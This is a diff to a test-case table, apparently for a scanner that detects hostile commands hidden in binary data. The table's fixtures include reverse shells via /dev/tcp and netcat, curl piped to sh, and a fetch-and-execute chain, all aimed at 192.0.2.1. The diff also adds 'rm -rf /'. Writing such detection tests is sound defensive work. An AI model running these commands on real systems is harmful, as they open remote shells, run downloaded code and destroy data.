@@ -43,6 +43,13 @@ CASES = {
     "attack_reverse_shell": hidden(b"\0bash -i >& /dev/tcp/192.0.2.1/9 0>&1\0", Verdict.MALICIOUS),
     "attack_reverse_shell_in_script": hidden(b"#!/bin/sh\nsh -i >& /dev/tcp/192.0.2.1/9 0>&1\n", Verdict.MALICIOUS),
     "attack_pipe": hidden(b"\0curl -s http://192.0.2.1/x.sh | sh\0", Verdict.MALICIOUS),
+    "attack_fetched_and_made_executable": hidden(
+        b"\0wget -q http://192.0.2.1/m -O /tmp/m && chmod +x /tmp/m && /tmp/m\0", Verdict.MALICIOUS
+    ),
+    "attack_removal": hidden(b"\0rm -rf /\0", Verdict.MALICIOUS),
+    "benign_rights_and_removals": hidden(
+        b"\0chmod +x build.sh && ./build.sh\0rm -rf /var/lib/apt/lists/*\0rm -rf ~/.cache/pip\0", Verdict.NOT_SCANNED
+    ),
     "attack_netcat": hidden(b"\xffnc -e /bin/sh 192.0.2.1 9\0", Verdict.MALICIOUS),
     "attack_fifo": hidden(
         b"\0rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 9 >/tmp/f\0", Verdict.MALICIOUS
